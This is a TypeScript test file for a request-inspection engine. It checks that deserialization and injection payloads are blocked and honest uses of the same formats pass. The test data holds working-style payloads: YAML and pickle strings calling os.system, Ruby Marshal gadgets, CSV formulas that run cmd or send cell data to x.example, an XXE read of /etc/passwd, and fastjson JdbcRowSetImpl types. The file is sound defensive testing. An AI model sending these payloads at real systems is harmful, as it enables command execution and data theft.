// Exploitation of data formats and object models (test/support/variants/formats.ts): PHP, pickle, YAML, Ruby
// Marshal, .NET, Java and Node.js object graphs, SVG/XML/HTML/CSV/Markdown documents and GraphQL arguments, in
// the carriers tools use. A floor on the share blocked, no miss outside the shapes left alone (named below, with
// why), the same formats used honestly let through, and two honest uses left blocked on purpose. Then tables for
// what this round changed: verbose YAML tags (17004), pickle memo and INST opcodes (17004), Ruby Marshal in base64
// (17004), formulas in the cells of a CSV body (17006), uploads sniffed as XML by their first bytes, a document's
// own `<style>` sheet (3001), JSON Pointer steps through `__proto__` (10110) and fastjson's `LLcom...;;` (8121).
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { inspect, inspectWith, type Req } from "../support/engine.js";
import { formatAttack, formatsBenign, FAMILIES, POLICY, type FormatAttack } from "../support/variants/formats.js";
import { assertPassed, assertFloor, assertEveryShape } from "../support/variants/check.js";
import { rng } from "../support/variants/rng.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

const SEED = 20261128;
const bodyOf = (r: Req) => (typeof r.body === "string" ? r.body : "");

/**
 * Shapes left alone, and why:
 * - file contents other than XML and SVG (a CSV, YAML or Markdown file in a multipart upload): uploads are opaque
 *   data, read only when they are markup (XXE, script in an image); a service that parses an uploaded YAML file
 *   or renders an uploaded Markdown file gets it unread (csv/0, yaml/2, markdown/2);
 * - raw binary pickle and Marshal bodies: a binary body is read through its runs of 16 text bytes or more, and
 *   short commands leave none (pickle/4, marshal/2); in base64, anywhere, they are found;
 * - an `<image href>` of an uploaded SVG naming a local file or loopback (an upload's document is scanned whole,
 *   its attribute values are not targets of their own);
 * - PD4ML's `<annotation file=...>` (one renderer's element) and markup fetching `file://` or loopback inside a
 *   value when the xss rules are off (see POLICY);
 * - a .NET type hint naming a framework type under JavaScriptSerializer's `__type` key, and XAML that maps a
 *   `clr-namespace:` (only `$type`, as Mongo's operator, is read);
 * - a sanitiser bypass `__pro__proto__to__[x]=` (one word holding `__proto__`) and a set-by-path value that is
 *   `__proto__` alone (the word by itself is read as prose).
 */
function leftAlone(a: FormatAttack): boolean {
  const where = `${a.family}/${a.k}`;
  const body = bodyOf(a.req);
  if (where === "csv/0" || where === "yaml/2" || where === "markdown/2" || where === "pickle/4" || where === "marshal/2") return true;
  if (a.family === "svg" && /<image [^>]*href="(file:|text:|http:\/\/127\.)/.test(body)) return true;
  if (a.family === "html-pdf" && /annotation( |%20)file/.test(body)) return true;
  if (where === "dotnet/1" && body.startsWith('{"__type"')) return true;
  if (where === "dotnet/4") return true;
  if (where === "node/4" && (a.req.path ?? "").includes("__pro__proto__to__")) return true;
  if (where === "node/6" && /"path":"__proto__"/.test(body)) return true;
  return false;
}

describe("data formats and object models as exploitation tools send them", () => {
  it("blocks at least 90% and misses nothing outside the shapes left alone", () => {
    // 77.2% at the branch point (of the same 2000; and 46 of 1500 look-alikes blocked), 90.35% after
    assertFloor(h, formatAttack, 2000, SEED, 0.9, leftAlone);
  });

  it("draws every family and every shape", () => assertEveryShape(formatAttack, FAMILIES, 3000, SEED));

  it("lets the same formats used honestly through", () => assertPassed(h, formatsBenign, 1500));

  it.each(POLICY)("leaves %s blocked, and passes it with the exclusion it needs", (_what, gen, exclusion) => {
    for (let seed = 1; seed <= 20; seed++) {
      const req = gen(rng(seed));
      expect(inspect(h, req).score).toBeGreaterThanOrEqual(5);
      expect(inspectWith(h, req, "", exclusion).score).toBeLessThan(5);
    }
  });
});

const host: [string, string] = ["host", "svc.local"];
const post = (body: string, type: string, path = "/api/import"): Req => ({ method: "POST", path, headers: [host, ["content-type", type]], body });
const query = (v: string): Req => ({ method: "GET", path: `/api/load?data=${encodeURIComponent(v)}`, headers: [host] });
const ids = (r: Req) => inspect(h, r).matches.map((m) => m.id);
const upload = (filename: string, type: string, content: string | Buffer): Req => {
  const head = Buffer.from(`--b0\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: ${type}\r\n\r\n`);
  return { method: "POST", path: "/upload", headers: [host, ["content-type", "multipart/form-data; boundary=b0"]], body: new Uint8Array(Buffer.concat([head, Buffer.from(content), Buffer.from("\r\n--b0--\r\n")])) };
};

describe("YAML's verbose tags name a type as `!!` does (17004)", () => {
  it.each([
    "x: !<tag:yaml.org,2002:python/object/apply:os.system> [\"id\"]",
    "!<tag:yaml.org,2002:javax.script.ScriptEngineManager> [!!java.net.URLClassLoader [[]]]",
    "- !<TAG:YAML.ORG,2002:python/object/new:subprocess.Popen> [[ls]]",
  ])("blocks %s", (v) => {
    expect(ids(post(v, "application/x-yaml"))).toContain(17004);
    expect(ids(query(v))).toContain(17004);
  });
  it.each(["x: !<tag:yaml.org,2002:str> 123", "x: !<tag:example.com,2024:widget> {a: 1}", "y: !<!local> 1", "Use !<tag:...> for verbose tags"])("passes %s", (v) => {
    expect(inspect(h, post(v, "application/x-yaml")).score).toBeLessThan(5);
  });
});

describe("protocol 0 pickles with memo and INST opcodes (17004)", () => {
  it.each([
    "cposix\nsystem\np0\n(Vid\np1\ntp2\nRp3\n.",
    "(S'id'\nios\nsystem\n.",
    "(S'whoami'\nisubprocess\ncheck_output\np0\n.",
    "cos\nsystem\n(S'id'\ntR.",
  ])("blocks %j", (v) => {
    expect(ids(post(v, "application/octet-stream"))).toContain(17004);
    expect(inspect(h, query(Buffer.from(v).toString("base64"))).score).toBeGreaterThanOrEqual(5);
  });
  it.each([
    "cos table\nsystem prompt v2\n(draft).", "(see notes)\nitems: 3\n.", "cat\ndog\nbird.", "(a)\nb\nc.", "c\nd\n(e)\nR.",
  ])("passes %j", (v) => {
    expect(inspect(h, post(v, "text/plain")).score).toBeLessThan(5);
  });
});

describe("Ruby Marshal objects in base64 (17004)", () => {
  const sym = (s: string) => Buffer.concat([Buffer.from([0x3a, s.length + 5]), Buffer.from(s)]);
  const obj = Buffer.concat([Buffer.from([0x04, 0x08, 0x6f]), sym("Gem::Requirement"), Buffer.from([0x06]), sym("@requirements"), Buffer.from([0x5b, 0x00])]);
  const arr = Buffer.concat([Buffer.from([0x04, 0x08, 0x5b, 0x07, 0x63, 0x15]), Buffer.from("Gem::SpecFetcher"), Buffer.from([0x63, 0x13]), Buffer.from("Gem::Installer")]);
  // a Rails session signed, not encrypted: a hash of strings
  const session = Buffer.concat([Buffer.from([0x04, 0x08, 0x7b, 0x07, 0x49, 0x22, 0x0f]), Buffer.from("session_id"), Buffer.from([0x06, 0x3a, 0x06, 0x45, 0x46, 0x49, 0x22, 0x25]), Buffer.from("0123456789abcdef0123456789abcdef"), Buffer.from([0x06, 0x3b, 0x00, 0x54])]);
  it.each([["an object", obj], ["an array of classes", arr]])("blocks %s in a cookie and in JSON", (_w, b) => {
    const v = b.toString("base64");
    expect(ids({ method: "GET", path: "/", headers: [host, ["cookie", `_app_session=${encodeURIComponent(v)}--0123abcd`]] })).toContain(17004);
    expect(ids(post(JSON.stringify({ payload: v }), "application/json"))).toContain(17004);
  });
  it("passes a signed Rails session hash and base64 that only opens with BAh", () => {
    expect(inspect(h, { method: "GET", path: "/", headers: [host, ["cookie", `_app_session=${encodeURIComponent(session.toString("base64"))}--0123abcdef`]] }).score).toBeLessThan(5);
    expect(inspect(h, post(JSON.stringify({ token: "BAhaaaaaaaaaaaaaaaaaaaaaaaa", name: "BAhamas trip" }), "application/json")).score).toBeLessThan(5);
  });
});

describe("formulas in the cells of a CSV body (17006)", () => {
  it.each([
    "id,name,note\n1,Ann,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\"\n",
    "id;name;note\r\n1;Ann;+3+cmd|'/c calc'!A1\r\n",
    "id\tname\tnote\n1\tAnn\t@SUM(1)*cmd|' /C calc'!A0\n",
    "name,amount\nAnn, =WEBSERVICE(\"http://x.example/\"&A1)\n",
  ])("blocks %j", (v) => {
    expect(ids(post(v, "text/csv"))).toContain(17006);
  });
  it.each([
    "id,name,phone,balance,total\n1,Ann,+44 20 7946 0958,-12.50,=SUM(D2:D3)\n2,@bob,-,+7,=A1+B1\n",
    "Notes, - image(s) attached; -see hyperlink (below)\n",
    "a,b\n1,=IF(A1>0,\"yes\",\"no\")\n",
  ])("passes %j", (v) => {
    expect(inspect(h, post(v, "text/csv")).score).toBeLessThan(5);
  });
});

describe("an uploaded file is read as XML by its first bytes, whatever its name and type", () => {
  it.each([
    ["avatar.png", "image/png", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><rect/></svg>"],
    ["photo.jpg", "image/jpeg", "\n<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"],
    ["data.bin", "application/octet-stream", "<SVG><script>alert(1)</script></SVG>"],
  ])("blocks %s (%s)", (name, type, content) => {
    expect(inspect(h, upload(name, type, content)).score).toBeGreaterThanOrEqual(5);
  });
  it.each([
    ["photo.png", "image/png", Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from("<svg onload=alert(1)> in a text chunk")])],
    ["notes.txt", "text/plain", Buffer.from("<script> tags are explained in chapter 3")],
    ["icon.png", "image/png", Buffer.from("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0h24v24H0z\"/></svg>")],
  ])("reads %s as its bytes say", (name, type, content) => {
    expect(inspect(h, upload(name, type, content)).score).toBeLessThan(5);
  });
});

describe("a whole SVG or HTML document's own <style> sheet (3001)", () => {
  const svg = (style: string) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><style>${style}</style><path class="a" d="M1 1h2"/></svg>`;
  it("passes a sheet of rules in an SVG upload and in an XML body", () => {
    expect(inspect(h, upload("logo.svg", "image/svg+xml", svg(".a{fill:#0af}.b{stroke:url(#g)}"))).score).toBeLessThan(5);
    expect(inspect(h, post(svg(".a{fill:red}"), "application/xml")).score).toBeLessThan(5);
  });
  it("still blocks <style> in a value, and script in the document", () => {
    expect(ids(query("<style>@import 'x'</style>"))).toContain(3001);
    expect(ids(post(JSON.stringify({ bio: "<style>body{display:none}</style>" }), "application/json"))).toContain(3001);
    expect(inspect(h, upload("logo.svg", "image/svg+xml", svg(".a{}") .replace("<path", "<script>alert(1)</script><path"))).score).toBeGreaterThanOrEqual(5);
  });
});

describe("JSON Pointer steps through the prototype (10110)", () => {
  it.each(["/__proto__/isAdmin", "__proto__/shell", "constructor/prototype", "/user/constructor/prototype/role"])("blocks the path %s", (p) => {
    expect(ids(post(JSON.stringify([{ op: "add", path: p, value: true }]), "application/json-patch+json"))).toContain(10110);
  });
  it.each(["/users/proto/tcp", "/constructor/builder", "/docs/prototype/v2", "/a/b/c"])("passes the path %s", (p) => {
    expect(inspect(h, post(JSON.stringify([{ op: "replace", path: p, value: 1 }]), "application/json")).score).toBeLessThan(5);
  });
});

describe("fastjson's type descriptors (8121)", () => {
  it.each(["Lcom.sun.rowset.JdbcRowSetImpl;", "LLcom.sun.rowset.JdbcRowSetImpl;;", "LLLorg.apache.xbean.propertyeditor.JndiConverter;;;"])("blocks @type %s", (t) => {
    expect(ids(post(`{"@type":"${t}","dataSourceName":"x"}`, "application/json"))).toContain(8121);
  });
  it.each(["Lunch;", "LLama.model;", "Location.Point;"])("passes @type %s", (t) => {
    expect(inspect(h, post(`{"@type":"${t}","name":"x"}`, "application/json")).score).toBeLessThan(5);
  });
});
